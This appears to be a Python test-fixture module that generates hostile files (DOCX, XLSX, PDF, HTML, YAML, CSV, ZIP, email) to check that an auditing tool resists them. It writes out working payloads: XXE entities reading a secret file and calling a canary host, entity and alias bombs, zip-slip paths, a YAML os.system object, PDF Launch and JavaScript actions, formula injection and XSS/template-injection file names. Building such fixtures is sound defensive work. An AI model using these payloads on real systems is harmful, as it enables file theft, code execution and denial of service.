"""Files made to harm whoever opens them, each small enough for a test. ``{canary}`` is an address, ``{secret}`` a file."""

import gzip
import io
import os
import struct
import tempfile
import zipfile
from collections.abc import Iterable
from pathlib import Path

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CELLS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
ENTITY = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}"><!ENTITY y SYSTEM "{canary}/entity"><!ENTITY % z SYSTEM "{canary}/dtd"> %z;]>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)


def archive(parts: dict[str, bytes | str | Iterable[bytes]]) -> bytes:
    """Pack parts; a part may come in pieces."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made:
        for name, part in parts.items():
            with made.open(name, "w", force_zip64=True) as target:
                for piece in [part] if isinstance(part, (bytes, str)) else part:
                    target.write(piece.encode() if isinstance(piece, str) else piece)
    return stream.getvalue()


def word(body: str, relations: str = "") -> bytes:
    return archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": body,
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{relations}</Relationships>',
        }
    )


def workbook(rows: Iterable[bytes], shared: Iterable[bytes] = (), padding: int = 0, head: str = "") -> bytes:
    """Make a workbook of one sheet; ``padding`` bytes of noise hide how well the rest is packed."""
    sheet = [f'{head}<worksheet xmlns="{CELLS}"><sheetData>'.encode(), *rows, b"</sheetData></worksheet>"]
    strings = [f'<sst xmlns="{CELLS}">'.encode(), *(b"<si><t>%b</t></si>" % one for one in shared), b"</sst>"]
    relation = '<Relationship Id="r{n}" Type="{kind}" Target="{to}"/>'
    related = relation.format(n=1, kind=f"{RELATIONS}/worksheet", to="worksheets/sheet1.xml")
    related += relation.format(n=2, kind=f"{RELATIONS}/sharedStrings", to="sharedStrings.xml")
    return archive(
        {
            "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r" Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook xmlns="{CELLS}" xmlns:r="{RELATIONS}"><sheets><sheet name="Incidents" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{related}</Relationships>',
            "xl/worksheets/sheet1.xml": sheet,
            "xl/sharedStrings.xml": strings,
            "xl/media/noise.bin": os.urandom(padding),
        }
    )


def rows_of(count: int, cell: str) -> Iterable[bytes]:
    yield b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
    for number in range(2, count + 2):
        yield f'<row r="{number}">{cell}</row>'.encode()


def long_texts() -> dict[str, bytes]:
    """Return a Parquet file of half a megabyte that stands for ten gigabytes, where DuckDB is there to write it."""
    try:
        import duckdb
    except ImportError:
        return {}
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.parquet"
        rows = "SELECT 'I' || n AS id, repeat('y', 100000) AS title FROM range(100000) AS t(n)"
        duckdb.sql(f"COPY ({rows}) TO '{path}' (FORMAT parquet, ROW_GROUP_SIZE 100000)")
        return {"long-texts.parquet": path.read_bytes()}


def pdf(catalog: str, objects: str = "") -> bytes:
    """Write a PDF of one page whose catalog has further entries."""
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R {catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n{objects}trailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def documents(canary: str, secret: Path) -> dict[str, bytes]:
    """Return hostile documents by name."""

    def told(text: str) -> str:
        return text.replace("{canary}", canary).replace("{secret}", str(secret))

    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Policy %s</w:t></w:r></w:p></w:body></w:document>'
    outside = f'<Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" TargetMode="External" Target="{canary}/template.dotm"/>'
    page = "<html><head><meta http-equiv=refresh content='0;url={canary}/refresh'><base href='{canary}/'><link rel=stylesheet href='{canary}/css'><style>@import '{canary}/import';</style><script src='{canary}/js'></script></head><body onload=x><img src='{canary}/img'><iframe src='file://{secret}'></iframe><object data='{canary}/o'></object>Policy</body></html>"
    mail = "From: a@example.org\r\nSubject: Minutes\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + (
        "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" * 3000
    )
    return {
        "entity.docx": word(told(ENTITY) + body % "&x;&y;"),
        "laughs.docx": word(LAUGHS + "]>" + body % "&j;"),
        "template.docx": word(body % "one", outside),
        "deep.docx": word("<a>" * 200_000),
        "inflates.docx": word(body % (" " * 250_000_000)),
        "entity.xml": (told(ENTITY) + "<r>&x;&y;</r>").encode(),
        "laughs.svg": (LAUGHS + "]><svg>&j;</svg>").encode(),
        "entity.odt": archive(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": told(ENTITY) + "<r>&x;&y;</r>",
            }
        ),
        "page.html": told(page).encode(),
        "deep.html": b"<div>" * 100_000,
        "deep.json": b"[" * 200_000,
        "large.json": b'{"n": ' + b"9" * 2_000_000 + b"}",
        "object.yaml": b"!!python/object/apply:os.system ['touch escaped']",
        "bomb.yaml": b"a: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(
            b"%c: &%c [%b]\n" % (98 + n, 98 + n, b",".join([b"*%c" % (97 + n)] * 9)) for n in range(9)
        ),
        "mail.eml": mail.encode(),
        "slip.zip": archive({"../../escaped.txt": "out", "/tmp/escaped-auditkit.txt": "out"}),  # noqa: S108 - the trap
        "opens.pdf": pdf(f"/OpenAction<</S/URI/URI({canary}/uri)>>"),
        "script.pdf": pdf(f"/OpenAction<</S/JavaScript/JS(app.launchURL('{canary}/js'))>>"),
        "launch.pdf": pdf("/OpenAction<</S/Launch/F(/bin/touch)/Win<</F(calc.exe)>>>>"),
        "circle.pdf": pdf("/Outlines 9 0 R", "9 0 obj<</First 9 0 R/Next 9 0 R/Parent 9 0 R>>endobj\n"),
        "length.pdf": pdf("", "9 0 obj<</Length 99999999999>>stream\nendstream endobj\n"),
        "-rf.md": b"# Policy\n",
        "=cmd|' /C calc'!A0.md": b"# Policy\n",
        "<script>alert(1)</script>.md".replace(
            "/", "\u2215"
        ): b"# Policy <script>alert(1)</script> {{ 7*7 }} {% include '/etc/passwd' %}\n",
        "line\nbreak.md": b"# Policy\n",
    }


def exports(canary: str, secret: Path) -> dict[str, bytes]:
    """Return hostile record exports by name."""
    far = '<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'
    entity = ENTITY.replace("{canary}", canary).replace("{secret}", str(secret))
    cell = '<c r="A{n}" t="inlineStr"><is><t>&x;</t></is></c>'
    return {
        "repeats-a-text.xlsx": workbook(rows_of(150_000, '<c t="s"><v>0</v></c>'), [b"y" * 32_000], 200_000),
        "cells-without-places.xlsx": workbook(rows_of(45_000, "<c><v>1</v></c>" * 400), padding=3_000_000),
        "far-cell.xlsx": workbook([b'<row r="1">', far.encode(), b"</row>"]),
        "entity.xlsx": workbook([f'<row r="1">{cell.format(n=1)}</row>'.encode()], head=entity),
        "inflates.xlsx": workbook([b" " * 400_000_000]),
        "one-line.csv": b"id,title\nI1," + b"x" * 40_000_000 + b"\n",
        "open-quote.csv": b'id,title\nI1,"' + b"a, b\n" * 8_000_000,
        "rows-in-quotes.csv": b"id,title\n" + b'"\n",' * 8_000_000,
        "zeros.csv.gz": gzip.compress(b"id,title\n" + bytes(60_000_000), 1),
        "wide.csv": b"id,title" + b"," * 500_000 + b"\nI1,x" + b"," * 500_000 + b"\n",
        "formulas.csv": b"id,title\n=cmd|' /C calc'!A0,@SUM(1)\n+1,-1\n",
        "long-cells.csv.gz": gzip.compress(
            b"id,title\n" + b"".join(b"I%d," % n + b"z" * 900_000 + b"\n" for n in range(400)), 1
        ),
        **long_texts(),
        "torn.csv.gz": gzip.compress(b"id,title\nI1,x\n" * 999)[:-9],
        "claims.csv.gz": gzip.compress(b"id\n")[:-4] + struct.pack("<I", 2**32 - 1),
    }
